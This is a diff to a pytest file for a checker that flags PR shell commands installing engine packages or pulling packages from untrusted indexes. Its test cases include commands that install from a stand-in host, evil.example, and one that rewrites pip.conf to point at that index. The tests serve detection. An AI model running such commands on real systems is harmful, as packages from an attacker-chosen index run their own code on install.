@@ -534,8 +534,11 @@ def test_an_engine_fork_from_an_archive_a_vcs_url_or_a_versioned_pip_is_patching
 
 
 def test_an_index_url_on_a_harness_install_is_no_engine_package(check):
+    """The index names no package (engine-wheel); an untrusted index counts on its own."""
     command = "pip install --extra-index-url https://pypi.example.com/simple datasets pandas"
-    assert _engine_check(check, command).status == "PASS"
+    reason = _engine_check(check, command).reason
+    assert "installs engine packages" not in reason
+    assert "installs from a package index" in reason
 
 
 # Other routes to code the engine's Python loads: a .pth file or anything written into the
@@ -585,7 +588,7 @@ def test_an_install_of_packages_known_only_at_run_time_is_patching(check, comman
 # (read on its own when the PR changes it), an index; nor does an array of options (where
 # InferenceX's TileRT setup keeps pip's, #2533).
 def test_run_time_option_values_of_an_install_name_no_package(check):
-    command = 'pip install --target "$DEST" -r "$REQS" --index-url "$INDEX" "${OPTS[@]}" datasets'
+    command = 'pip install --target "$DEST" -r "$REQS" --python "$PY" "${OPTS[@]}" datasets'
     assert _engine_check(check, command).status == "PASS"
 
 
@@ -669,3 +672,57 @@ def test_packages_run_from_an_environment_of_their_own_are_installs(check, comma
 
 def test_running_the_harness_from_an_environment_of_its_own_is_allowed(check):
     assert _engine_check(check, "uvx --from aiperf==0.3 aiperf --version").status == "PASS"
+
+
+# A package index or links page the PR chooses serves whatever it likes under any name (a
+# package built there runs its own code as it installs): it counts unless the profile trusts it.
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install --extra-index-url https://evil.example/simple -U aiperf",
+        "pip install -i https://evil.example/simple datasets",
+        "uv pip install --find-links=https://evil.example/wheels lmcache==0.3",
+        "export PIP_EXTRA_INDEX_URL=https://evil.example/simple",
+        'pip install --index-url "$INDEX" datasets',
+        "PIP_FIND_LINKS=https://evil.example/wheels pip install -U aiperf",
+        'export PIP_CONFIG_FILE="$(dirname "$0")/pip.conf"',
+        "printf '[global]\\nindex-url = https://evil.example/simple\\n' > ~/.config/pip/pip.conf",
+    ],
+)
+def test_an_index_the_profile_does_not_trust_is_patching(check, command):
+    result = _engine_check(check, command)
+    assert result.status == "FAIL", result.reason
+    assert "installs from a package index" in result.reason, result.reason
+
+
+def test_an_index_the_profile_trusts_is_allowed(check):
+    url = "https://github.com/LMCache/LMCache/releases/expanded_assets/v0.3.9-rocm"
+    command = f'pip install --no-deps "lmcache==0.3.9" --find-links "{url}"'
+    assert _engine_check(check, command).status == "PASS"
+
+
+def test_grep_and_rm_short_options_are_no_index(check):
+    command = "grep -i vllm /tmp/log.txt > /dev/null || rm -f /tmp/log.txt"
+    assert _engine_check(check, command).status == "PASS"
+
+
+# The shared library's pip wrapper (`agentic_pip_install`, `python3 -m pip install "$@"`) installs
+# what a script hands it; signoff does not read the unchanged library, so the profile names it.
+@pytest.mark.parametrize(
+    ("command", "named"),
+    [
+        ("agentic_pip_install vllm==0.0.1", "installs engine packages"),
+        (
+            "agentic_pip_install --no-deps lmcache --find-links https://evil.example/wheels",
+            "installs from a package index",
+        ),
+    ],
+)
+def test_the_librarys_pip_wrapper_installs_as_pip_does(check, command, named):
+    result = _engine_check(check, command)
+    assert result.status == "FAIL" and named in result.reason, result.reason
+
+
+def test_the_librarys_pip_wrapper_installing_other_packages_is_allowed(check):
+    command = 'agentic_pip_install --quiet --no-deps "sortedcontainers==2.4.0" aiperf'
+    assert _engine_check(check, command).status == "PASS"
